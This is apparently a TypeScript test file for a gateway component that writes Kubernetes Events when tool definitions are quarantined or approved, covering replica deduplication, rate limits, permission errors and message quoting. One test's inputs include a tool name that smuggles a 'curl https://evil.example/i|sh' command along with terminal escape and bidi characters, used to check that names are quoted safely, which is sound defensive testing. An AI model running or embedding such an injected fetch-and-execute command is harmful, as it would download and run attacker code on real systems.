import assert from 'node:assert/strict'
import { test } from 'node:test'
import { startEventWriter } from '../../../src/gateway/upstream/tool-server-events.ts'
import type { ToolChange } from '../../../src/gateway/upstream/tool-change.ts'
import { toolServerResource } from '../../../src/gateway/upstream/tool-server-watch.ts'
import type { ApiClient } from '../../../src/kubernetes/api-client.ts'
import { parseApiError } from '../../../src/kubernetes/api-error.ts'
import { silentLog } from '../../../src/log.ts'
import { requirement } from '../../requirements.ts'

interface Written {
  readonly metadata: { readonly name: string }
  readonly reason: string
  readonly message: string
}

/** The events of a cluster, and a gateway that writes them. */
function opened(): {
  readonly events: Map<string, Written>
  readonly asked: string[]
  readonly lines: string[]
  now: number
  refuse: number | undefined
  replica(): ReturnType<typeof startEventWriter>
} {
  const world = {
    events: new Map<string, Written>(),
    asked: [] as string[],
    lines: [] as string[],
    now: Date.parse('2026-07-28T12:00:00Z'),
    refuse: undefined as number | undefined,
    replica: () =>
      startEventWriter({
        client,
        source,
        now: () => world.now,
        log: { ...silentLog, warn: (_, line) => void world.lines.push(line) },
      }),
  }
  const source = {
    find: (key: string) =>
      key.startsWith('tools/')
        ? toolServerResource.parse({
            metadata: { name: key.slice(6), namespace: 'tools', uid: key, resourceVersion: '1' },
            spec: {},
          })
        : undefined,
  }
  const request = ({ path, body }: { path: string; body?: unknown }): Promise<unknown> => {
    world.asked.push(path)
    const event = body as Written
    const { name } = event.metadata
    const status = world.refuse ?? (world.events.has(name) ? 409 : undefined)
    if (status !== undefined) {
      const reason = { 403: 'Forbidden', 409: 'AlreadyExists' }[status] ?? 'Unknown'
      return Promise.reject(parseApiError({ what: 'POST', status, answer: { reason } }))
    }
    world.events.set(name, event)
    return Promise.resolve({
      ...event,
      metadata: { uid: name, resourceVersion: '1', ...event.metadata },
    })
  }
  async function* stream(): AsyncGenerator<never> {}
  const client = { server: '', request, stream, close: () => {} } as ApiClient
  return world
}

const settle = (): Promise<void> => new Promise((resolve) => setImmediate(resolve))

function changed(tool: string, more: Partial<ToolChange> = {}): ToolChange {
  const why = 'definition-changed'
  return {
    kind: 'quarantined',
    server: 'tools--github',
    tool,
    digest: 'b',
    approved: 'a',
    why,
    ...more,
  }
}

test('what several replicas see is there once', async () => {
  requirement('gateway.quarantine-told')
  const world = opened()
  for (const writer of [world.replica(), world.replica()]) {
    writer.tell('tools/github', changed('echo'))
    writer.tell('tools/github', changed('echo', { kind: 'served', digest: 'a' }))
    await settle()
  }
  assert.equal(world.asked.length, 4)
  assert.deepEqual(
    [...world.events.values()].map(({ reason }) => reason),
    ['ToolQuarantined', 'ToolApproved'],
  )
  assert.deepEqual(world.lines, [], 'who comes second has nothing to complain of')
})

test('a server of ever new definitions is told of sixteen times in ten minutes, and takes nothing of another', async () => {
  requirement('gateway.quarantine-told')
  const world = opened()
  const writer = world.replica()
  for (let index = 0; index < 40; index += 1) {
    writer.tell('tools/github', changed('echo', { digest: String(index) }))
    await settle()
  }
  const reasons = (): readonly string[] => [...world.events.values()].map(({ reason }) => reason)
  assert.equal(reasons().length, 16)
  assert.equal(reasons().at(-1), 'ToolsChanged')
  writer.tell('tools/files', changed('read'))
  await settle()
  assert.equal(reasons().length, 17)
  world.now += 600_000
  writer.tell('tools/github', changed('echo', { digest: 'later' }))
  await settle()
  assert.equal(reasons().length, 18)
})

test('not more than 32 are on their way, and a right that is missing is told once', async () => {
  const world = opened()
  const writer = world.replica()
  for (let index = 0; index < 40; index += 1) writer.tell(`tools/s${index}`, changed('echo'))
  assert.equal(world.asked.length, 32)
  await settle()
  world.refuse = 403
  for (const tool of ['one', 'two']) {
    writer.tell('tools/other', changed(tool))
    await settle()
  }
  assert.deepEqual(world.lines, ['no event tells of a quarantined tool'])
})

test('a tool of no ToolServer has no Event, and one that breaks the protocol nothing to approve', async () => {
  const world = opened()
  const writer = world.replica()
  writer.tell(undefined, changed('echo'))
  writer.tell('gone/github', changed('echo'))
  await settle()
  assert.deepEqual(world.asked, [])
  writer.tell('tools/github', changed('odd', { why: 'definition-invalid', approved: undefined }))
  writer.tell(
    'tools/github',
    changed('new', { why: 'definition-not-approved', approved: undefined }),
  )
  await settle()
  assert.deepEqual(
    [...world.events.values()].map(({ message }) => message),
    [
      'tool odd is neither listed nor called: its definition breaks the protocol (now b); look at it: countersign tools list tools--github',
      'tool new is neither listed nor called: nobody has approved its definition (now b); look at it: countersign tools list tools--github; then countersign tools approve tools--github new --digest b',
    ],
  )
})

for (const [tool, shown] of [
  [
    'x\u001b[2K\n; curl https://evil.example/i|sh #',
    '"x\\u001b[2K\\n; curl https://evil.example/i|sh #"',
  ],
  ['--help', '"--help"'],
  ['a\u009b\u202eb', '"a\\u009b\\u202eb"'],
] as const) {
  test(`a name that a shell or a terminal may obey is quoted, and in no command: ${shown}`, async () => {
    requirement('gateway.quarantine-told')
    const world = opened()
    const writer = world.replica()
    writer.tell('tools/github', changed(tool))
    writer.tell('tools/github', changed(tool, { kind: 'served', digest: 'a' }))
    await settle()
    assert.deepEqual(
      [...world.events.values()].map(({ message }) => message),
      [
        `tool ${shown} is neither listed nor called: its definition has changed since its approval (now b, approved is a); look at it: countersign tools list tools--github`,
        `tool ${shown} is served: its definition a is the approved one`,
      ],
    )
  })
}
